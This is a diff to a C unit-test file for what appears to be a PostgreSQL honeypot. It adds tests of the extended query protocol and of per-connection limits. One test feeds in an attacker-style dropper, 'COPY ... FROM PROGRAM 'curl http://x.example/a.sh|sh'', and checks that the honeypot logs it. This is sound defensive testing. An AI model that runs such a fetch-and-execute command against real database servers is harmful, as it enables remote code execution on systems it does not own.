@@ -235,14 +235,34 @@ static void test_login_and_queries(void **st)
 }
 
 /* command.input events caught from the output tap, and how many said they were cut. */
-static size_t n_cmd, n_stmts_cut, n_input_cut, n_login;
+static size_t n_cmd, n_stmts_cut, n_input_cut, n_login, n_copy_program;
+static char last_input[256], last_program[256];   /* JSON-escaped, as in the event */
+static unsigned long long last_input_length;
+
+/* The JSON string value of key in json (cut to outlen - 1). */
+static void json_value(const char *json, const char *key, char *out, size_t outlen)
+{
+    const char *p = strstr(json, key);
+    size_t k = 0;
+    if (p)
+        for (p += strlen(key); *p && k < outlen - 1 && !(*p == '"' && p[-1] != '\\'); p++)
+            out[k++] = *p;
+    out[k] = '\0';
+}
 
 static void tap(struct hp_event *e, void *arg)
 {
     (void)arg;
     n_login += strstr(e->json, "\"eventid\":\"login.") != NULL;
+    if (strstr(e->json, "\"eventid\":\"pgsql.copy_program\"")) {
+        n_copy_program++;
+        json_value(e->json, "\"program\":\"", last_program, sizeof(last_program));
+    }
     if (!strstr(e->json, "\"eventid\":\"command.input\""))
         return;
+    json_value(e->json, "\"input\":\"", last_input, sizeof(last_input));
+    const char *il = strstr(e->json, "\"input_length\":");
+    last_input_length = il ? strtoull(il + 15, NULL, 10) : 0;
     n_cmd++;
     n_stmts_cut += strstr(e->json, "\"statements_truncated\":true") != NULL;
     n_input_cut += strstr(e->json, "\"input_truncated\":true") != NULL;
@@ -625,6 +645,198 @@ static void test_pg15_messages(void **st)
     free(cf.version);
 }
 
+/* The extended query protocol (pgx, JDBC, psycopg 3, libpq's PQexecParams), fed the bytes a
+ * client sends and answered with the bytes 15.18 sent: Parse/Bind/Describe/Execute/Sync. */
+static void ext15(const char *in_bytes, size_t in_len, const char *exp, size_t n)
+{
+    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_sess s;
+    struct hp_buf in;
+    hp_buf_init(&in, 4096);
+    login15(&s, &cf);
+    hp_buf_put(&in, in_bytes, in_len);
+    expect(&s, &in, exp, n, false);
+    assert_int_equal(s.sendable, s.out.len);            /* Sync: all of it goes out */
+    hp_pg_sess_free(&s);
+    hp_buf_free(&in);
+    free(cf.version);
+}
+
+#define EXT15(in, lit) ext15(in, sizeof(in) - 1, lit, sizeof(lit) - 1)
+
+static void test_pg15_extended(void **st)
+{
+    (void)st;
+    /* select $1 with '42': unknown parameter type resolved as text */
+    n_cmd = 0;
+    EXT15("P\x00\x00\x00\x11\x00select $1\x00\x00\x00" "B\x00\x00\x00\x12\x00\x00\x00\x00\x00\x01\x00\x00\x00\x02"
+          "42\x00\x00" "D\x00\x00\x00\x06P\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
+          "1\x00\x00\x00\x04" "2\x00\x00\x00\x04T\x00\x00\x00!\x00\x01?column?\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
+          "\x19\xff\xff\xff\xff\xff\xff\x00\x00" "D\x00\x00\x00\x0c\x00\x01\x00\x00\x00\x02"
+          "42C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
+    assert_int_equal(n_cmd, 1);
+    assert_string_equal(last_input, "select '42'");         /* the parameter substituted */
+    EXT15("P\x00\x00\x00\x18\x00select version()\x00\x00\x00" "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00"
+          "D\x00\x00\x00\x06P\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
+          "1\x00\x00\x00\x04" "2\x00\x00\x00\x04T\x00\x00\x00 \x00\x01version\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
+          "\x19\xff\xff\xff\xff\xff\xff\x00\x00" "D\x00\x00\x00\x85\x00\x01\x00\x00\x00{PostgreSQL 15.18 (Debian "
+          "15.18-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc (Debian 12.2.0-14+deb12u1) 12.2.0, 64-bit"
+          "C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
+    /* COPY ... PROGRAM takes no parameter: a syntax error at "$1" (position 21), the Bind,
+     * Describe and Execute after it discarded up to Sync; the attempt still recorded */
+    n_cmd = 0;
+    EXT15("P\x00\x00\x00\x1e\x00" "COPY t FROM PROGRAM $1\x00\x00\x00" "B\x00\x00\x00\x12\x00\x00\x00\x00\x00\x01"
+          "\x00\x00\x00\x02id\x00\x00" "D\x00\x00\x00\x06P\x00"
+          "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
+          "E\x00\x00\x00[SERROR\x00VERROR\x00" "C42601\x00Msyntax error at or near \"$1\"\x00P21\x00"
+          "Fscan.l\x00L1188\x00Rscanner_yyerror\x00\x00Z\x00\x00\x00\x05I");
+    assert_int_equal(n_cmd, 1);
+    /* an error mid-batch: the rest discarded up to Sync, then the next batch runs */
+    EXT15("P\x00\x00\x00\x0d\x00" "bogus\x00\x00\x00" "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00"
+          "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04P\x00\x00\x00\x10\x00select 1\x00\x00\x00"
+          "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
+          "E\x00\x00\x00]SERROR\x00VERROR\x00" "C42601\x00Msyntax error at or near \"bogus\"\x00P1\x00"
+          "Fscan.l\x00L1188\x00Rscanner_yyerror\x00\x00Z\x00\x00\x00\x05I1\x00\x00\x00\x04" "2\x00\x00\x00\x04"
+          "D\x00\x00\x00\x0b\x00\x01\x00\x00\x00\x01" "1C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
+    /* a named statement with a declared int4, described; bound in binary, results in binary,
+     * Execute with max rows 1 (PortalSuspended), then the rest (none) */
+    EXT15("P\x00\x00\x00\x17s1\x00select $1\x00\x00\x01\x00\x00\x00\x17" "D\x00\x00\x00\x08Ss1\x00"
+          "B\x00\x00\x00\x1a\x00s1\x00\x00\x01\x00\x01\x00\x01\x00\x00\x00\x04\x00\x00\x00\x07\x00\x01\x00\x01"
+          "E\x00\x00\x00\x09\x00\x00\x00\x00\x01" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
+          "1\x00\x00\x00\x04t\x00\x00\x00\x0a\x00\x01\x00\x00\x00\x17T\x00\x00\x00!\x00\x01?column?\x00\x00\x00\x00"
+          "\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff\xff\xff\x00\x00" "2\x00\x00\x00\x04"
+          "D\x00\x00\x00\x0e\x00\x01\x00\x00\x00\x04\x00\x00\x00\x07s\x00\x00\x00\x04"
+          "C\x00\x00\x00\x0dSELECT 0\x00Z\x00\x00\x00\x05I");
+    assert_string_equal(last_input, "select 7");
+    /* $1::int: the parameter typed int4 by its cast, the column "int4", the row in binary */
+    EXT15("P\x00\x00\x00\x16\x00select $1::int\x00\x00\x00" "D\x00\x00\x00\x06S\x00"
+          "B\x00\x00\x00\x14\x00\x00\x00\x00\x00\x01\x00\x00\x00\x02" "42\x00\x01\x00\x01" "D\x00\x00\x00\x06P\x00"
+          "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
+          "1\x00\x00\x00\x04t\x00\x00\x00\x0a\x00\x01\x00\x00\x00\x17T\x00\x00\x00\x1d\x00\x01int4\x00\x00\x00\x00"
+          "\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff\xff\xff\x00\x00"
+          "2\x00\x00\x00\x04T\x00\x00\x00\x1d\x00\x01int4"
+          "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff\xff\xff\x00\x01"
+          "D\x00\x00\x00\x0e\x00\x01\x00\x00\x00\x04\x00\x00\x00*C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
+    assert_string_equal(last_input, "select 42::int");
+    /* the dropper through the extended protocol: its program, and parameters (a quote, a NULL) */
+    n_copy_program = 0;
+    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_sess s;
+    struct hp_buf in;
+    hp_buf_init(&in, 4096);
+    login15(&s, &cf);
+    hp_buf_put(&in, "P\x00\x00\x00" "B\x00" "COPY cmd_exec FROM PROGRAM 'curl http://x.example/a.sh|sh'\x00\x00\x00"
+                    "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00"
+                    "P\x00\x00\x00\x15\x00select $1, $2\x00\x00\x00"
+                    "B\x00\x00\x00\x18\x00\x00\x00\x00\x00\x02\x00\x00\x00\x04it's\xff\xff\xff\xff\x00\x00"
+                    "E\x00\x00\x00\x09\x00\x00\x00\x00\x00", 0x43 + 1 + 13 + 10 + 0x16 + 0x19 + 10);
+    hp_buf_reset(&s.out);
+    s.sendable = 0;
+    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
+    assert_int_equal(n_copy_program, 1);
+    assert_string_equal(last_program, "curl http://x.example/a.sh|sh");
+    assert_string_equal(last_input, "select 'it''s', NULL");
+    assert_int_equal(s.sendable, 0);                     /* no Sync, no Flush: held, as the server holds it */
+    assert_true(s.out.len > 0);
+    hp_pg_sess_free(&s);
+    hp_buf_free(&in);
+    free(cf.version);
+}
+
+static void put_msg(struct hp_buf *b, char type, const void *body, size_t n)
+{
+    hp_buf_putc(b, (uint8_t)type);
+    be32(b, (uint32_t)n + 4);
+    hp_buf_put(b, body, n);
+}
+
+/*
+ * The extended protocol's bounds: 32 prepared statements kept (a 33rd drops the oldest,
+ * which is then "does not exist"); a parameter used 20000 times in one statement makes a
+ * text cut at a few times max_query, not 20000 copies of it; 20000 messages per connection;
+ * a big statement re-read by small Binds and Executes 16 x max_query per connection.
+ */
+static void test_pg15_extended_bounds(void **st)
+{
+    (void)st;
+    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_sess s;
+    struct hp_buf in, body;
+    hp_buf_init(&in, 8u << 20);
+    hp_buf_init(&body, 4u << 20);
+    login15(&s, &cf);
+    for (int i = 0; i < 40; i++) {
+        hp_buf_reset(&body);
+        hp_buf_printf(&body, "s%d", i);
+        hp_buf_putc(&body, 0);
+        hp_buf_printf(&body, "select %d", i);
+        hp_buf_put(&body, "\0\0\0", 3);
+        put_msg(&in, 'P', body.data, body.len);
+    }
+    put_msg(&in, 'D', "Ss7\0", 4);
+    put_msg(&in, 'S', "", 0);
+    put_msg(&in, 'D', "Ss8\0", 4);
+    put_msg(&in, 'S', "", 0);
+    hp_buf_reset(&s.out);
+    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
+    assert_int_equal(count_type(&s.out, '1'), 40);
+    static const char gone[] = "Mprepared statement \"s7\" does not exist";
+    assert_non_null(memmem(s.out.data, s.out.len, gone, sizeof(gone)));
+    assert_int_equal(count_type(&s.out, 't'), 1);        /* s8 is kept */
+
+    hp_buf_reset(&in);
+    hp_buf_reset(&body);
+    hp_buf_put(&body, "\0select $1", 10);
+    for (int i = 0; i < 20000; i++)
+        hp_buf_puts(&body, ",$1");
+    hp_buf_put(&body, "\0\0\0", 3);
+    put_msg(&in, 'P', body.data, body.len);
+    hp_buf_reset(&body);
+    hp_buf_put(&body, "\0\0\0\0\0\x01\x00\x01\x00\x00", 10);      /* one text parameter of 64 KiB */
+    for (int i = 0; i < 65536; i++)
+        hp_buf_putc(&body, 'A');
+    hp_buf_put(&body, "\0\0", 2);
+    put_msg(&in, 'B', body.data, body.len);
+    put_msg(&in, 'E', "\0\0\0\0\0", 5);
+    put_msg(&in, 'S', "", 0);
+    n_cmd = n_input_cut = 0;
+    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
+    assert_int_equal(n_cmd, 1);
+    assert_int_equal(n_input_cut, 1);
+    assert_true(last_input_length > 65536 && last_input_length <= 60010 + 8 + 3 * cf.max_query);
+
+    hp_buf_reset(&in);
+    for (int i = 0; i < 20001; i++)
+        put_msg(&in, 'S', "", 0);
+    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
+    assert_true(s.closing);
+    hp_pg_sess_free(&s);
+
+    /* a statement of 1000000 bytes, then Bind + Execute of 30 bytes each, 100 times: the
+     * kept text re-read 16 x max_query at most (about 8 runs), then the connection is closed */
+    login15(&s, &cf);
+    hp_buf_reset(&in);
+    hp_buf_reset(&body);
+    hp_buf_put(&body, "\0select '", 9);
+    for (int i = 0; i < 1000000; i++)
+        hp_buf_putc(&body, 'x');
+    hp_buf_put(&body, "'\0\0\0", 4);
+    put_msg(&in, 'P', body.data, body.len);
+    for (int i = 0; i < 100; i++) {
+        put_msg(&in, 'B', "\0\0\0\0\0\0\0\0", 8);
+        put_msg(&in, 'E', "\0\0\0\0\0", 5);
+    }
+    put_msg(&in, 'S', "", 0);
+    n_cmd = 0;
+    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
+    assert_true(s.closing);
+    assert_true(n_cmd >= 4 && n_cmd <= 8);
+    hp_pg_sess_free(&s);
+    hp_buf_free(&in);
+    hp_buf_free(&body);
+    free(cf.version);
+}
+
 int main(void)
 {
     hp_output_set_tap(tap, NULL);
@@ -637,6 +849,8 @@ int main(void)
         cmocka_unit_test(test_pg15_password),
         cmocka_unit_test(test_pg15_queries),
         cmocka_unit_test(test_pg15_messages),
+        cmocka_unit_test(test_pg15_extended),
+        cmocka_unit_test(test_pg15_extended_bounds),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
